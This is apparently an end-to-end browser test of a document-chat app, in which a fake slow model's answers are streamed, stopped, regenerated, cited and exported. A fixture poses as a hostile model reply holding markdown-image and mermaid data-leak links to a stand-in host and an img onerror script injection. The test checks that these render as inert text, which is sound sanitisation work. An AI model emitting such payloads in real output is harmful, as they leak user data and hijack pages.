"""A conversation with a slow model: streamed, stopped, led on from, kept; and what a hostile model writes."""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
from browser.screens import go, settle, upload
from ollama_double import ChatDouble, EmbedDouble, OllamaDouble
from ollama_double.protocol import ChatCall, Reply
from ollama_double.scripts import well_behaved
from playwright.sync_api import Page, expect

TEXT = b"""Mara Quill founded the Brindle Valley Ferry in 1921 at Port Ansel.
Mara Quill hired Tobias Renn as chief engineer of the Brindle Valley Ferry."""
QUESTION = "Who did Mara Quill hire?"
HOSTILE = """Mara Quill hired Tobias Renn as chief engineer [1]. ![x](https://example.invalid/leak?q=ferry)
<img src="https://example.invalid/leak2" onerror="document.title='owned'"> [here](https://example.invalid/a)
:red[x] $y$ https://example.invalid/b

```mermaid
graph TD
  A@{ img: "https://example.invalid/leak3.png", label: "x" }
```
"""


class Writer:
    """Reads documents as asked; answers with `text`, a word every `gap` seconds."""

    def __init__(self) -> None:
        self.text = "Mara Quill hired Tobias Renn [1]. " + "And so on. " * 2000
        self.gap = 0.05
        self.asked: list[str] = []

    def __call__(self, call: ChatCall) -> Reply:
        if "-----Sources-----" not in call.prompt:
            return well_behaved(call)
        self.asked.append(call.prompt)
        return Reply(self.text, gap=self.gap)


@pytest.fixture(autouse=True)
def _patience() -> Iterator[None]:
    """Wait as long as a model and a busy machine may need; waiting ends as soon as it is so."""
    expect.set_options(timeout=60_000)
    yield
    expect.set_options(timeout=5_000)


def type_in(page: Page, question: str) -> None:
    page.get_by_test_id("stChatInputTextArea").fill(question)
    page.keyboard.press("Enter")


def test_a_conversation_with_a_slow_model(start_app, visit, tmp_path):
    writer = Writer()
    with OllamaDouble([ChatDouble("slow-3b", writer), EmbedDouble("embed", 64, 2048)]) as double:
        address = start_app(
            tmp_path / "data",
            LIGHTRAG_LANGUAGE_MODEL="",
            LIGHTRAG_EMBEDDING_MODEL="",
            OLLAMA_HOST=double.address,
        )
        watched = visit(address)
        page = watched.page
        go(page, "Documents")
        upload(page, {"ferry.txt": ("text/plain", TEXT)})

        # Streamed, the steps above it; stopped, the partial answer stays and nothing seems to go on.
        go(page, "Chat")
        type_in(page, QUESTION)
        answer = page.get_by_test_id("stChatMessage").nth(1)
        expect(answer).to_contain_text("And so on. And so on.")
        expect(answer).to_contain_text("Writing")
        expect(answer).to_contain_text("1 source")
        page.get_by_test_id("stChatInputStopButton").click()
        expect(answer).to_contain_text("Stopped: what was written so far is kept.")
        expect(answer).to_contain_text("And so on. And so on.")
        expect(answer).not_to_contain_text("Writing")
        expect(answer).to_contain_text("Mix · ollama:slow-3b")
        assert "conversation=chat-" in page.url

        # The reloaded page shows it again.
        page.reload()
        expect(answer).to_contain_text("Stopped: what was written so far is kept.")
        expect(answer).to_contain_text("And so on. And so on.")

        # What is being written when the page is left is kept as stopped.
        page.get_by_role("button", name="Regenerate").click()
        expect(answer).to_contain_text("Writing")
        expect(answer).to_contain_text("And so on.")
        go(page, "Overview")
        go(page, "Chat")
        expect(answer).to_contain_text("Stopped: what was written so far is kept.")
        assert len(writer.asked) == 2

        # A hostile answer is text. On its number the passage is seen without asking the server.
        writer.text, writer.gap = HOSTILE, 0.0
        page.get_by_role("button", name="Regenerate").click()
        expect(answer).to_contain_text("example.invalid/b")
        expect(page.get_by_role("button", name="Regenerate")).to_be_visible()
        settle(page)
        expect(answer.locator("img, script, a, .katex, svg[id^=mermaid]")).to_have_count(0)
        assert "owned" not in page.title()
        citation = answer.get_by_role("button", name="Citation [1] ferry.txt")
        citation.hover()
        expect(answer.get_by_role("tooltip")).to_contain_text("[1] ferry.txt")
        expect(answer.get_by_role("tooltip").locator("mark")).to_contain_text("hired Tobias Renn")
        citation.click()
        expect(page.locator(".passage mark.used")).to_contain_text("hired Tobias Renn")

        # A row leads to the entity in the graph of just this evidence, and the way back to the conversation.
        table = page.get_by_test_id("stDataFrame").first
        table.scroll_into_view_if_needed()
        box = table.bounding_box()
        assert box is not None
        page.mouse.click(box["x"] + 18, box["y"] + 35 + 18)
        expect(page.get_by_role("heading", name="Graph", exact=True)).to_be_visible()
        expect(page.get_by_role("heading", name=re.compile("Mara Quill|Tobias Renn"))).to_be_visible()
        assert "scope=evidence" in page.url
        go(page, "Chat")
        expect(answer).to_contain_text("example.invalid/b")

        # A second conversation; both are kept, named, taken away and deleted.
        page.get_by_role("button", name="New chat").click()
        expect(page.get_by_test_id("stChatMessage")).to_have_count(0)
        writer.text = "Port Ansel [1]."
        type_in(page, "Where was the ferry founded?")
        expect(answer).to_contain_text("Port Ansel")
        expect(page.get_by_role("button", name="Regenerate")).to_be_visible()
        settle(page)
        menu = page.get_by_test_id("stPopover").filter(has_text="more_horiz").get_by_role("button")
        menu.click()
        page.get_by_label("Name", exact=True).fill("Ferries <b>")
        page.get_by_role("button", name="Rename").click()
        chosen = page.get_by_role("combobox", name="Conversation")
        expect(chosen).to_have_value("Ferries <b>")
        settle(page)
        menu.click()
        with page.expect_download() as download:
            page.get_by_role("button", name="Export as Markdown").click()
        assert "Port Ansel" in download.value.path().read_text(encoding="utf-8")
        page.get_by_role("button", name="Delete …").click()
        page.get_by_role("button", name="Delete for good").click()
        expect(page.get_by_test_id("stChatMessage")).to_have_count(0)
        settle(page)
        chosen.click()
        page.get_by_role("option", name=QUESTION).click()
        expect(answer).to_contain_text("example.invalid/b")
        watched.assert_clean()
